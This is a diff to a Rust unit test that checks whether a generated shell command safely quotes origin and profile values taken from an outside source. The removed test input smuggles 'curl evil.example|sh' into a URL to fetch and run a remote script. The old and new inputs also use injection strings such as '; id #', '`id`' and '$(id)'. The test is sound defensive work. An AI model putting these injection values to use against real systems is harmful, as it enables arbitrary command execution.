@@ -175,10 +175,10 @@ mod tests {
     }
 
     #[test]
-    fn command_to_copy_quotes_names_that_a_stream_brought() {
-        let cure = cure("http://a.example; curl evil.example|sh #", "p\n`id`");
+    fn cure_quotes_foreign_words_in_its_command() {
+        let cure = cure("http://a.example; id #\n", "$(id)");
         assert!(
-            cure.contains("--origin 'http://a.example; curl evil.example|sh #' --profile $'p\\012`id`'`"),
+            cure.contains(r"--origin $'http://a.example; id #\012' --profile '$(id)'`"),
             "{cure}"
         );
     }
